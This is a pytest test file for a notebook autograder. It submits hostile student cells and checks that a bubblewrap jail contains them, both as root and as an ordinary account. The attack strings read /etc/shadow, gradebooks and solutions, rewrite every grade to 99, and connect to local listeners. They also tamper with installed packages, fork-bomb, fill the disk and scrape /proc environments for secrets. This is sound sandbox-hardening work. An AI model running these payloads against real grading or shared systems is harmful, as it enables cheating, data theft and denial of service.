"""A class with hostile submissions, graded with the README's batch command, as root and as an
ordinary user: nothing the hostile notebooks try gets out of the grading jail.

Each hostile student submits the solution of 01_perceptron plus one code cell of attack, run by
the autograder's kernel and by its verdict sandbox:

- read the solutions, the gradebook, the config, other students' folders and root's home;
- write the gradebook (every score to 99) and other students' files;
- connect to listeners this test opens: TCP on 127.0.0.1 and ::1, an abstract Unix socket;
- write into nnkit and nngrader;
- fork-bomb; fill the scratch disk; allocate 3 GiB;
- look for the hidden-case secret in the environment, in /proc and on disk.

Then: the listeners saw no connection; the solutions, nnkit, nngrader and every honest student's
submission are byte-identical; every honest grade equals a run without the hostile students; the
whole class is graded; the hostile cells printed no secret, solution, gradebook or other student.
"""
from __future__ import annotations

import hashlib
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

import grading_harness as h

pytestmark = pytest.mark.slow

A, NB = "01_perceptron", "perceptron"
SECRET = "jail-test-secret-" + uuid.uuid4().hex
PROCESSES = 128  # nbgrader_config.py's GradingJail.processes
HONEST = {
    "honest_full": lambda: h.submission(A, NB),
    "honest_partial": lambda: h.submission(A, NB, {
        "mp_neuron_solution": "def mp_neuron(x, w, theta):\n    return (np.asarray(x) @ np.asarray(w) > theta).astype(int)\n"}),
    "honest_blank": lambda: h.release(A, NB),
}


def attacks(course: Path, port: int, abstract: str) -> dict[str, str]:
    """``{student: attack cell source}``; every string a cell prints on success is in LEAKS."""
    return {
        "evil_read": f'''
import os
COURSE = {str(course)!r}
found = []
for p in [COURSE + "/solutions/{A}/{NB}.ipynb", COURSE + "/gradebook.db", COURSE + "/nngrader_secret.txt",
          COURSE + "/nbgrader_config.py", "../../../solutions/{A}/{NB}.ipynb", "../../../gradebook.db",
          "/root/.bashrc", "/etc/shadow"]:
    try:
        with open(p, "rb") as f:
            found.append((p, f.read(400)))
    except OSError as e:
        found.append((p, repr(e)))
for d in [COURSE, COURSE + "/submitted", "../..", "/home", "/root", "/work"]:
    try:
        found.append((d, os.listdir(d)))
    except OSError as e:
        found.append((d, repr(e)))
print(found)
''',
        "evil_write": f'''
import sqlite3
COURSE = {str(course)!r}
for db in [COURSE + "/gradebook.db", "../../../gradebook.db"]:
    try:
        con = sqlite3.connect(db, timeout=1)
        con.execute("UPDATE grade SET auto_score = 99")
        con.commit()
        print("WROTE", db)
    except Exception as e:
        print("no", db, e)
for p in [COURSE + "/submitted/honest_blank/{A}/{NB}.ipynb", COURSE + "/solutions/{A}/{NB}.ipynb",
          COURSE + "/autograded/honest_blank/{A}/{NB}.ipynb", COURSE + "/evil.txt", "../../../evil.txt"]:
    try:
        with open(p, "w") as f:
            f.write("{{}}")
        print("WROTE", p)
    except OSError as e:
        print("no", type(e).__name__)  # not the path: it names another student
''',
        "evil_net": f'''
import socket
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET6, ("::1", {port})),
                        (socket.AF_UNIX, "\\0{abstract}")]:
    try:
        s = socket.socket(family)
        s.settimeout(2)
        s.connect(address)
        s.send(b"PWNED")
        print("CONNECTED", address)
    except OSError as e:
        print("no", address, e)
''',
        "evil_package": '''
import os, nnkit, nngrader
for package in (nnkit, nngrader):
    folder = os.path.dirname(package.__file__)
    for name, mode in (("__init__.py", "a"), ("evil.py", "w")):
        try:
            with open(os.path.join(folder, name), mode) as f:
                f.write("\\nHACKED = True\\n")
            print("WROTE", folder, name)
        except OSError as e:
            print("no", folder, name, e)
''',
        "evil_fork": '''
import os, time
forked, t0 = 0, time.time()
while time.time() - t0 < 3:
    try:
        if os.fork() == 0:
            t1 = time.time()
            while time.time() - t1 < 3:
                try:
                    os.fork()
                except OSError:
                    pass
            time.sleep(20)
            os._exit(0)
        forked += 1
    except OSError:
        pass
print("forked", forked)
''',
        "evil_disk": '''
import os
for p in ["big1", "/tmp/big2", "/dev/shm/big3", os.path.expanduser("~/big4")]:
    try:
        with open(p, "wb") as f:
            for _ in range(2048):
                f.write(b"\\0" * (1 << 20))
        print("WROTE 2 GiB", p)
    except OSError as e:
        print("no", p, e)
    finally:
        if os.path.exists(p):
            os.remove(p)
''',
        "evil_memory": '''
import numpy as np
big = np.ones(3 * 2**30 // 8)
print("ALLOCATED 3 GiB", big.nbytes)
''',
        "evil_secret": '''
import glob, os, sys
print(dict(os.environ))
for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(p, open(p, "rb").read()[:4000])
    except OSError as e:
        print("no", p, e)
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)):  # Python's own files
        dirs[:] = []
        continue
    for f in files:
        if "secret" in f or f.endswith(".db") or f.startswith("nbgrader_config"):
            print("FOUND", os.path.join(root, f), open(os.path.join(root, f), "rb").read(200))
''',
    }


LEAKS = [SECRET, "BEGIN SOLUTION", "SQLite format 3", "CourseDirectory", "honest_", "WROTE", "CONNECTED",
         "ALLOCATED", "FOUND", "root:", "HACKED"]


def hostile(source: str):
    nb = h.submission(A, NB)
    nb.cells.insert(1, nbformat.v4.new_code_cell(source))
    return nb


# --- listeners, hashes, accounts ------------------------------------------------------------------
class Listeners:
    """A TCP listener on 127.0.0.1 and ::1 (one port) and an abstract Unix socket; counts connections."""

    def __init__(self):
        self.connections: list = []
        self.abstract = "nngrader-jail-test-" + uuid.uuid4().hex[:12]
        self.sockets = [socket.create_server(("127.0.0.1", 0))]
        self.port = self.sockets[0].getsockname()[1]
        try:
            self.sockets.append(socket.create_server(("::1", self.port), family=socket.AF_INET6))
        except OSError:  # no IPv6 loopback here
            pass
        unix = socket.socket(socket.AF_UNIX)
        unix.bind("\0" + self.abstract)
        unix.listen()
        self.sockets.append(unix)
        for s in self.sockets:
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()

    def _accept(self, s):
        while True:
            try:
                conn, addr = s.accept()
            except OSError:
                return
            self.connections.append(addr)
            conn.close()

    def close(self):
        for s in self.sockets:
            s.close()


def tree_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for p in sorted(Path(folder).rglob("*")):
        if "__pycache__" in p.parts:
            continue
        digest.update(str(p.relative_to(folder)).encode())
        if p.is_file():
            digest.update(p.read_bytes())
    return digest.hexdigest()


def package_state() -> dict:
    """What the attacks on the package would change: the solutions, and nnkit's and nngrader's
    ``__init__.py`` (the files they append to) and file lists (they add ``evil.py``)."""
    state = {"solutions": tree_hash(h.ROOT / "solutions")}
    for package in ("nnkit", "nngrader"):
        folder = h.ROOT / package
        state[package] = ((folder / "__init__.py").read_bytes(), sorted(p.name for p in folder.iterdir()))
    return state


def _first_closed_ancestor(path: str, uid: int) -> str | None:
    """The outermost folder above ``path`` that the account ``uid`` cannot search (like /root)."""
    parts = Path(os.path.realpath(path)).parts
    for i in range(2, len(parts) + 1):
        folder = Path(*parts[:i])
        st = folder.stat()
        if not (st.st_mode & 0o001 or (st.st_uid == uid and st.st_mode & 0o100)):
            return str(folder)
    return None


def as_user(account: pwd.struct_passwd, argv: list, home: Path) -> list:
    """``argv`` run as ``account`` with no privileges. Where this machine's Python or this checkout
    lives in a folder closed to other accounts (a pyenv under /root, a clone in a 0700 temporary
    folder), a private mount namespace shows just those folders to the command: the account is
    still an ordinary one, without capabilities."""
    drop = ["setpriv", f"--reuid={account.pw_uid}", f"--regid={account.pw_gid}", "--init-groups",
            "--reset-env", "--", "env", f"HOME={home}", f"PATH={Path(sys.executable).parent}:/usr/bin:/bin",
            "LANG=C.UTF-8", *argv]
    needed: dict[str, set] = {}  # closed folder -> the folders inside it the account must reach
    for path in (sys.base_prefix, sys.prefix, h.ROOT):
        closed = _first_closed_ancestor(str(path), account.pw_uid)
        if closed is not None:
            inner = Path(os.path.realpath(path)).relative_to(closed).parts[0]
            needed.setdefault(closed, set()).add(f"{closed}/{inner}")
    if not needed:
        return drop
    steps = ["set -e"]
    for closed, keep in needed.items():
        for i, folder in enumerate(sorted(keep)):
            steps.append(f's{i}=$(mktemp -d); mount --bind "{folder}" "$s{i}"')
        steps.append(f'mount -t tmpfs -o mode=0755 tmpfs "{closed}"')
        for i, folder in enumerate(sorted(keep)):
            steps.append(f'mkdir -p "{folder}"; mount --bind "$s{i}" "{folder}"')
    steps.append('exec "$@"')
    return ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", "; ".join(steps), "sh", *drop]


@pytest.fixture(scope="module")
def ordinary_account():
    """A throwaway unix account (root only), removed afterwards."""
    if os.getuid() != 0:
        yield None  # we are an ordinary account already
        return
    if not shutil.which("useradd"):
        pytest.skip("useradd is missing: cannot make an ordinary account to grade as")
    name = "nnjail" + uuid.uuid4().hex[:6]
    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True)
    try:
        yield pwd.getpwnam(name)
    finally:
        subprocess.run(["userdel", name], check=False)


# --- the runs -----------------------------------------------------------------------------------
def grade_class(tmp: Path, students: dict, *, account=None) -> tuple[Path, subprocess.CompletedProcess]:
    """A course copy in ``tmp/course`` with ``students`` (``{name: notebook}``) submitted, graded by ``generate_assignment`` + ``grade_all``,
    as ``account`` when given (the course then belongs to that account)."""
    course = h.new_course(tmp, assignments=[A])
    (course / "nngrader_secret.txt").write_text(SECRET + "\n")
    for name, nb in students.items():
        h.write_submission(course, name, A, NB, nb)
    script = (f"{sys.executable} -m nngrader generate_assignment {A} --force >/dev/null 2>&1 && "
              f"exec {sys.executable} -m nngrader.grade_all {A}")
    env = {k: v for k, v in os.environ.items() if k != "NNGRADER_SECRET"}
    if account is None:
        proc = subprocess.run(["sh", "-c", script], cwd=course, env=env, capture_output=True, text=True, timeout=900)
    else:
        home = tmp / "home"
        home.mkdir()
        for p in (tmp, course, home):
            os.chown(p, account.pw_uid, account.pw_gid)
        for p in [*course.rglob("*"), *home.rglob("*")]:
            os.chown(p, account.pw_uid, account.pw_gid, follow_symlinks=False)
        proc = subprocess.run(as_user(account, ["sh", "-c", f"cd {course} && {script}"], home),
                              capture_output=True, text=True, timeout=900)
    return course, proc


def outputs_text(course: Path, student: str) -> str:
    nb = nbformat.read(course / "autograded" / student / A / f"{NB}.ipynb", as_version=4)
    texts = []
    for cell in nb.cells:
        for o in cell.get("outputs", []):
            texts.append(str(o.get("text", "")) + str(o.get("evalue", "")) + str(o.get("data", "")))
    return "\n".join(texts)  # outputs only: the feedback also shows the attack's own source


@pytest.fixture(scope="module")
def baseline(tmp_path_factory):
    """The honest students alone: the grades a run without hostile submissions gives."""
    course, proc = grade_class(tmp_path_factory.mktemp("baseline"), {name: make() for name, make in HONEST.items()})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return h.grades_csv(course, A)


@pytest.fixture
def open_tmp():
    """A temporary folder another account can reach (pytest's own sits in a 0700 folder)."""
    folder = Path(tempfile.mkdtemp(prefix="nngrader-jail-class-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("who", ["root", "ordinary user"])
def test_hostile_submissions_stay_in_the_jail(who, baseline, ordinary_account, open_tmp):
    if who == "root" and os.getuid() != 0:
        pytest.skip("grading as root needs root")
    account = ordinary_account if who == "ordinary user" else None
    tmp_path = open_tmp
    listeners = Listeners()
    course_for_attacks = tmp_path / "course"  # where grade_class puts the course (the attacks name it)
    students = {name: make() for name, make in HONEST.items()}
    students.update({name: hostile(src) for name, src in
                     attacks(course_for_attacks, listeners.port, listeners.abstract).items()})
    before = package_state()
    try:
        course, proc = grade_class(tmp_path, students, account=account)
    finally:
        listeners.close()
    log = proc.stdout + proc.stderr

    # the whole class was graded, in the jail
    assert (course / f"grades_{A}.csv").exists(), log
    grades = h.grades_csv(course, A)
    assert set(grades) == set(students), log
    assert all(row["status"] == "graded" and row["jail"] == "bubblewrap" for row in grades.values()), grades
    assert proc.returncode == 0, log

    # nothing reached the network, the package, the solutions or the other students' files
    assert listeners.connections == [], listeners.connections
    assert package_state() == before
    assert tree_hash(course / "solutions" / A) == tree_hash(h.ROOT / "solutions" / A)
    for name, make in HONEST.items():
        submitted = nbformat.read(course / "submitted" / name / A / f"{NB}.ipynb", as_version=4)
        assert nbformat.writes(submitted) == nbformat.writes(make()), name
    assert not (course / "evil.txt").exists()

    # every honest grade is what a class without the hostile students gets
    cells = [k for k in baseline["honest_full"] if k.startswith(f"{NB}:")]
    for name in HONEST:
        assert {k: grades[name][k] for k in ["score", *cells]} == {k: baseline[name][k] for k in ["score", *cells]}, name

    # the hostile cells learnt nothing and changed nothing; they lost only what they broke
    for name in students:
        if name in HONEST:
            continue
        text = outputs_text(course, name)
        leaked = [leak for leak in LEAKS if leak in text]
        assert not leaked, (name, leaked, text[:3000])
    fork = outputs_text(course, "evil_fork")
    forked = int(fork.split("forked ")[1].split()[0])
    assert 0 < forked < PROCESSES, forked
    assert "Unable to allocate 3.00 GiB" in outputs_text(course, "evil_memory")  # numpy's MemoryError
    for name in ("evil_memory", "evil_disk", "evil_net", "evil_read", "evil_package"):
        assert grades[name]["score"] == baseline["honest_full"]["score"], (name, grades[name])
